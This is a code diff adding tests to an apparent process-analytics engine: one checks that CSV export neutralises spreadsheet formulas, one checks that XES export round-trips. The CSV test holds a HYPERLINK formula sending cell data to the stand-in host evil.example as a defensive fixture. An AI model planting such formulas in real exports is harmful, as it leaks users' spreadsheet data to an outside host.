@@ -2,7 +2,9 @@
 90th percentiles and SLA breach shares per node and per path."""
 from __future__ import annotations
 
-from datetime import timedelta
+import csv
+import io
+from datetime import UTC, timedelta
 
 import pytest
 from sqlalchemy import delete, func, select
@@ -189,3 +191,49 @@ def test_backfill_rebuilds_the_same_figures(system, scenario):
     # the audit log does not say whether an inspector overrode a reading: that case reads as inspected
     expected = {k: v for k, v in before_paths.items() if k != "overridden"} | {"inspected": 2}
     assert after_paths == expected
+
+
+def _unit_codes(session) -> dict[int, str]:
+    from engine.models import Unit
+
+    return {u.id: u.code for u in session.scalars(select(Unit))}
+
+
+def test_csv_export_neutralises_a_formula_in_a_note(system, scenario):
+    from engine import analytics_export
+    from engine.eventlog import MARKER, record
+
+    iid = scenario["ids"][1]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with system.sessions() as s:
+        record(s, MARKER, iid, scenario["scope"].start + timedelta(hours=1), node="review_application",
+               detail=formula)
+        s.commit()
+        text = "".join(analytics_export.to_csv(s, scenario["scope"], _unit_codes(s)))
+        total = s.scalar(select(func.count()).select_from(ProcessEvent))
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert len(rows) == total
+    note = next(r for r in rows if r["event"] == "marker" and r["instance_id"] == str(iid))
+    assert note["detail"] == "'" + formula
+    review = next(r for r in rows if r["event"] == "task_ready" and r["activity"] == "review_application")
+    assert review["unit"] == "U-YSM" and review["case"].startswith("20")  # an application number, as is
+
+
+def test_xes_export_reads_back_with_every_event(system, scenario, tmp_path):
+    import pm4py
+
+    from engine import analytics_export
+
+    with system.sessions() as s:
+        path = tmp_path / "log.xes"
+        path.write_text("".join(analytics_export.to_xes(s, scenario["scope"], _unit_codes(s), "meter_reading")))
+        events = list(s.scalars(select(ProcessEvent)))
+        numbers = {e.instance_id: e.reference for e in events if e.reference}
+        expected = sorted((numbers.get(e.instance_id, f"instance-{e.instance_id}"), analytics_export.activity(e),
+                           e.at.replace(tzinfo=UTC)) for e in events)
+    frame = pm4py.read_xes(str(path), variant="iterparse")  # the XML parser (lxml)
+    found = sorted(zip(frame["case:concept:name"], frame["concept:name"],
+                       (t.to_pydatetime() for t in frame["time:timestamp"])))
+    assert len(found) == len(expected) > 7 * 5
+    assert found == expected
+    assert frame["case:concept:name"].nunique() == 7
